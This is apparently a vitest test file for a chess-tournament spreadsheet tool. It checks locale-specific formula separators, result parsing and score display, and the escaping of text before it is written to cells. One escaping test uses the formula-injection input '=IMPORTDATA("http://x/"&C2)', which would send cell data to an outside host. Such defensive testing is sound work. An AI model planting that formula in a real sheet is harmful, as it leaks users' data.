import { describe, expect, it } from 'vitest';
import { enteredCell, enteredFormula, enteredText } from '../../appsscript/enteredCell.ts';
import { calculated } from '../../local/standIn/calculated.ts';
import {
  cellAt,
  changeCell,
  filledSize,
  type ModelValue,
  type WorkbookModel,
} from '../../local/standIn/model.ts';
import { usualResults } from '../../src/sheet/usualResults.ts';
import { gameMeaning } from '../../src/tournament/outcome.ts';
import { standardPoints } from '../../src/tournament/points.ts';
import { play, sheetFor, typedEvent, typeResults } from './standInEvent.ts';
import { resultColumn, typedTeamEvent } from './teamEvent.ts';

/** One that separates arguments with `;`, as Vietnam's does, and one with `,`. */
const locales = ['vi_VN', 'en_GB'] as const;

/** What the sheet Pairings shows, formulas calculated. */
function shownPairings(workbook: WorkbookModel): ModelValue[][] {
  const sheet = sheetFor(workbook, 'pairings');
  const { rows, columns } = filledSize(sheet);
  return Array.from({ length: rows }, (_r, row) =>
    Array.from({ length: columns }, (_c, column) => calculated(workbook, cellAt(sheet, row + 1, column + 1))),
  );
}

describe.each(locales)('formulas in a spreadsheet of locale %s', (locale) => {
  function teams(typed: readonly string[], settings: [string, string, string][] = []): ModelValue[][] {
    const workbook = typedTeamEvent({ teams: 4, boards: 4, settings });
    workbook.locale = locale;
    play(workbook, 'pairNextRound');
    const results = sheetFor(workbook, 'results');
    typed.forEach((text, game) => changeCell(results, game + 2, resultColumn, { value: text }));
    return shownPairings(workbook);
  }

  it('results on Pairings follow what is typed in Results', () => {
    const workbook = typedEvent(8);
    workbook.locale = locale;
    play(workbook, 'pairNextRound');
    typeResults(workbook, ['1-0']);
    const shown = shownPairings(workbook).flat();
    expect(shown.filter((value) => value === '1-0')).toHaveLength(4);
    expect(shown).not.toContain('#ERROR!');
  });

  it('the score of a match counts results as people type them', () => {
    const line = teams(['1', '0', '1', '0']).find((row) => row.includes('Team 1'));
    expect(line).toContain('4 – 0');
    expect(teams(['=', '½', '0.5', '0,5']).flat()).toContain('2 – 2');
    expect(teams(['+', '-/+', '1:0', '0–1']).flat()).toContain('4 – 0');
  });

  it('a result that no formula understands leaves the score empty, not wrong', () => {
    const rows = teams(['1-0', 'thắng', '1-0', '1-0']);
    const line = rows.find((row) => row.includes('Team 1'))!;
    expect(line.filter((value) => String(value).includes(' – '))).toEqual([]);
  });

  it('T, H, B count in a Vietnamese event', () => {
    expect(teams(['T', 'B', 'H', 'H'], [['Language', 'vi', '']]).flat()).toContain('3 – 1');
  });

  it('Refresh formulas enters what the arbiter wrote in his own locale, and it is still his', () => {
    const workbook = typedEvent(8);
    workbook.locale = locale;
    play(workbook, 'pairNextRound');
    const own = sheetFor(workbook, 'players');
    changeCell(own, 2, 12, { formula: '=STANDINGS(,,"BH,SB",1)' });
    play(workbook, 'refreshFormulas');
    expect(cellAt(own, 2, 12)).toMatchObject({ formula: '=STANDINGS(,,"BH,SB",1)' });
    expect(cellAt(own, 2, 12).value).not.toBe('#ERROR!');
  });
});

describe('what is handed to setValues', () => {
  it.each(['=1+1', '+1', '-1', '@x', "'=A1", "'quoted'", '=IMPORTDATA("http://x/"&C2)', '+/-', '-/-', '='])(
    '%s stays text',
    (text) => {
      expect(enteredText(text)).toBe(`'${text}`);
      expect(enteredCell(text)).toBe(`'${text}`);
    },
  );

  it.each(['1-0', '½-½', 'Ann', '', 'a=b'])('%s is no formula and stays as it is', (text) => {
    expect(enteredCell(text)).toBe(text);
  });

  it('numbers and boxes stay what they are', () => {
    expect([enteredCell(-1), enteredCell(true)]).toEqual([-1, true]);
  });

  it('commas become semicolons outside texts, titles and lists', () => {
    expect(enteredFormula(`=IF('a,b'!A1="x,y",{1,2},3)`)).toBe(`=IF('a,b'!A1="x,y";{1,2};3)`);
    expect(enteredFormula('=STANDINGS(A1:B;C1:D;"BH,SB";1,5)')).toBe('=STANDINGS(A1:B;C1:D;"BH,SB";1,5)');
  });
});

describe('the usual ways of typing a result', () => {
  it('are told apart as the reader tells them: half a point for each where both draw', () => {
    const all = usualResults('vi', standardPoints);
    const of = (text: string) => all.find(({ texts }) => texts.includes(text))?.outcome;
    expect([of('1'), of('0'), of('='), of('T'), of('H'), of('B'), of('+')]).toEqual([
      ...['whiteWins', 'blackWins', 'draw', 'whiteWins', 'draw', 'blackWins', 'whiteWinsByForfeit'],
    ]);
    expect(all.map(({ outcome }) => outcome).sort()).toEqual(Object.keys(gameMeaning).sort());
    expect(usualResults('en', standardPoints).flatMap(({ texts }) => texts)).not.toContain('T');
  });
});
